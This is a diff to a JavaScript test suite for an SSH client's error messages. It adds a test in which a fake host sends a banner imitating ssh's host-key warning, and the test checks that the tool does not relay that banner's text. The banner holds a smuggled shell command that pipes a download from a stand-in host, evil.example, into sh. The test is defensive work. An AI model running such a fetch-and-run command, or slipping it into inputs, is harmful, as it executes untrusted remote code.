@@ -161,7 +161,7 @@ test('an expired certificate is refused, and named', async () => {
     code: 'auth_failed',
     step: 'authentication',
     message:
-      `127.0.0.1 does not let root in with what there is; it accepts: publickey. It refused the certificate of ${mine.file}: ` +
+      `127.0.0.1 does not let root in with what there is; it accepts: publickey. It refused the certificate of “${mine.file}”: ` +
       'ssh-keygen -L -f shows until when and for whom it is good.',
   });
 });
@@ -285,6 +285,19 @@ test('a changed host key, an unknown one that is not trusted', async () => {
     step: 'host key',
     message: 'The key of 127.0.0.1 was not trusted, so nothing was sent.',
   });
+});
+
+test('a banner that looks like ssh’s own words puts no command before the technician', async () => {
+  const banner = [
+    'Offending ED25519 key in /root/.ssh/known_hosts:3',
+    "Host key for x';curl$IFS$9evil.example|sh;' has changed and you have requested strict checking.",
+    '',
+  ].join('\r\n');
+  const host = await forThisTest(startFakeHost({ banner, password: 'right', insteadOfAnswer: 'hang up' }));
+  const { message } = await faultOf(connectTo(host, { prompts: scriptedPrompts(['right']) }));
+  expect(message).toBe(
+    '127.0.0.1 closed the connection during the authentication: its log (journalctl -u ssh) says why.',
+  );
 });
 
 test('a name that nobody knows, a port that refuses, a configuration with a mistake, no ssh at all', async () => {
